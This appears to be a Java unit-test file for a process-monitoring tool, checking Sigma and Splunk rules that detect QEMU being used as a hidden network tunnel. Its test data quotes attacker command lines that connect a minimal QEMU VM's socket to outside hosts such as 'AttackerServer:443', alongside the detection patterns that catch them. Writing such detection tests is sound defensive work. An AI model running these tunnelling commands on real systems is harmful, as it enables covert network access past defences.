package io.procwatch.detect;

import io.procwatch.TestEvents;
import io.procwatch.TestRules;
import io.procwatch.engine.DetectionSession;
import io.procwatch.normalize.ProcessEvent;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.time.Duration;
import java.util.HashMap;
import java.util.Map;

import static io.procwatch.TestRules.SIGMA_ID;
import static io.procwatch.TestRules.SPLUNK_ID;
import static org.junit.jupiter.api.Assertions.assertEquals;

/**
 * The two seed detections, case by case: the Kaspersky command lines of SOURCES.md and the tricky cases that
 * follow from Splunk's and Sigma's semantics (case-insensitive contains, spaces inside values, equality vs
 * contains). Each event goes through the real DRL in rules-drl/.
 */
class QemuDetectionsTest {

    private static Map<String, Long> matches(ProcessEvent e) {
        try (DetectionSession s = new DetectionSession(TestRules.rulesDrl(), true, Duration.ofMinutes(10))) {
            s.insert(e);
            s.fire();
            return s.detections().matchCounts();
        }
    }

    private static void expect(ProcessEvent e, boolean sigma, boolean splunk) {
        Map<String, Long> m = matches(e);
        assertEquals(sigma ? 1L : 0L, m.get(SIGMA_ID), "Sigma on " + e);
        assertEquals(splunk ? 1L : 0L, m.get(SPLUNK_ID), "Splunk on " + e);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
            // SOURCES.md "Real QEMU command lines" (IPs filled with documentation addresses)
            "kaspersky #1 attacker line | qemu-system-i386.exe -m 1M -netdev user,id=lan,restrict=off -netdev socket,id=sock,connect=203.0.113.45:443 -netdev hubport,id=port-lan,hubid=0,netdev=lan -netdev hubport,id=port-sock,hubid=0,netdev=sock -nographic | true | false",
            "kaspersky #2 re-test | qemu-system-i386.exe -m 1M -netdev user,id=lan,restrict=off -netdev socket,id=sock,connect=AttackerServer:443 -netdev hubport,id=port-lan,hubid=0,netdev=lan -netdev hubport,id=port-sock,hubid=0,netdev=sock -nographic | true | false",
            "kaspersky #3 attacker server | qemu-system-x86_64 -boot d -cdrom kali-linux-2023.3-live-amd64.iso -m 6048 -device e1000,netdev=n1,mac=52:54:00:12:34:56 -smp 2 -netdev socket,id=n1,listen=:443 | false | false",
            "userware #4 | .\\qemu-system-x86_64.exe -m 1M -netdev user,id=lan,restrict=off -netdev socket,id=sock,connect=198.51.100.7:8443 -netdev hubport,id=port-lan,hubid=0,netdev=lan -netdev hubport,id=port-sock,hubid=0,netdev=sock -nographic | true | false",
            "userware #5 no restrict=off | .\\qemu-system-i386.exe -m 1M -netdev socket,id=sock,connect=198.51.100.7:8443 -device e1000,netdev=sock,mac=52:54:00:65:43:21 -nographic | false | false",
            "userware #6 512M | qemu-system-x86_64 -m 512M -device e1000,netdev=n1,mac=52:54:00:12:34:56 -netdev socket,id=n1,listen=:8443 -nographic | false | false",
            "userware #7 iso not img | .\\qemu-system-x86_64.exe -drive file=C:\\path\\to\\linux-pentest-os.iso -nographic & | false | false",
            // Case-insensitivity (Sigma and Splunk)
            "upper case | QEMU-SYSTEM-I386.EXE -M 1m -NETDEV USER,ID=LAN,RESTRICT=OFF -NETDEV SOCKET,CONNECT=203.0.113.45:443 -NOGRAPHIC | true | false",
            // '-netdev ' needs its trailing space
            "netdev without space | qemu.exe -m 1M -netdev=user,restrict=off,connect=1.2.3.4:443 -nographic | false | false",
            // '-m 1MB' contains '-m 1M'; '-m 12M' and '-m 1G' do not
            "-m 1MB | qemu.exe -m 1MB -netdev user,restrict=off -netdev socket,connect=1.2.3.4:443 -nographic | true | false",
            "-m 12M | qemu.exe -m 12M -netdev user,restrict=off -netdev socket,connect=1.2.3.4:443 -nographic | false | false",
            "-m 1G | qemu.exe -m 1G -netdev user,restrict=off -netdev socket,connect=1.2.3.4:443 -nographic | false | false",
            "-m 3M | qemu.exe -m 3M -netdev user,restrict=off -netdev socket,connect=1.2.3.4:443 -nographic | true | false",
            // Filter terms need spaces on both sides
            "filter -cdrom | qemu.exe -m 1M -netdev user,restrict=off -netdev socket,connect=1.2.3.4:443 -nographic -cdrom x.iso | false | false",
            "filter type=virt | qemu.exe -m 1M -machine type=virt -netdev user,restrict=off -netdev socket,connect=1.2.3.4:443 -nographic | false | false",
            "filter -blockdev | qemu.exe -m 1M -netdev user,restrict=off -blockdev driver=file -netdev socket,connect=1.2.3.4:443 -nographic | false | false",
            "trailing -cdrom not filtered | qemu.exe -m 1M -netdev user,restrict=off -netdev socket,connect=1.2.3.4:443 -nographic -cdrom | true | false",
            "-CDROM filter in caps | qemu.exe -m 1M -netdev user,restrict=off -netdev socket,connect=1.2.3.4:443 -nographic -CDROM x.iso | false | false",
            // Splunk: -nographic AND .img (plain substring) with the QEMU version resource
            "splunk .img | qemu-system-x86_64.exe -m 256M -hda tc.img -nographic | false | true",
            "splunk .img2 substring | qemu-system-x86_64.exe -hda disk.img2 -nographic | false | true",
            "splunk IMG caps | qemu-system-x86_64.exe -hda DISK.IMG -NoGraphic | false | true",
            "splunk no -nographic | qemu-system-x86_64.exe -hda disk.img -display none | false | false",
            "both | qemu.exe -m 1M -hda tc.img -netdev user,restrict=off -netdev socket,connect=1.2.3.4:443 -nographic | true | true",
    })
    void commandLines(String name, String commandLine, boolean sigma, boolean splunk) {
        expect(TestEvents.sysmon("2024-03-04T10:55:00.000Z", commandLine), sigma, splunk);
    }

    private static final String SPLUNK_LINE = "qemu-system-x86_64.exe -hda tc.img -nographic";

    private static ProcessEvent withResource(String description, String product, String company) {
        Map<String, String> f = new HashMap<>();
        f.put("Description", description);
        f.put("Product", product);
        f.put("Company", company);
        return TestEvents.sysmon("2024-03-04T10:55:00.000Z", SPLUNK_LINE, f);
    }

    @Test
    void splunkNeedsOneOfTheVersionResourceFields() {
        expect(withResource("QEMU machine emulators and tools", null, null), false, true);
        expect(withResource("qemu MACHINE", null, null), false, true);       // contains, any case
        expect(withResource(null, "QEMU", null), false, true);
        expect(withResource(null, "qemu", null), false, true);               // equality, any case
        expect(withResource(null, "QEMU ", null), false, false);             // equality: trailing space differs
        expect(withResource(null, "QEMU emulator", null), false, false);     // Product is =, not contains
        expect(withResource(null, null, "http://www.qemu-project.org"), false, true);
        expect(withResource(null, null, "QEMU Project"), false, true);       // Company is *qemu*
        expect(withResource("Windows Command Processor", "Microsoft Windows", "Microsoft"), false, false);
        expect(withResource(null, null, null), false, false);                // absent fields never match
    }

    @Test
    void splunkIsSysmonOnlyAndSigmaTakesSecurity4688() {
        ProcessEvent e4688 = TestEvents.security4688("2024-03-04T10:55:00.000Z", TestEvents.KASPERSKY_1 + " -hda tc.img");
        expect(e4688, true, false);
    }

    @Test
    void missingCommandLineMatchesNothing() {
        expect(TestEvents.security4688("2024-03-04T10:55:00.000Z", null), false, false);
    }
}
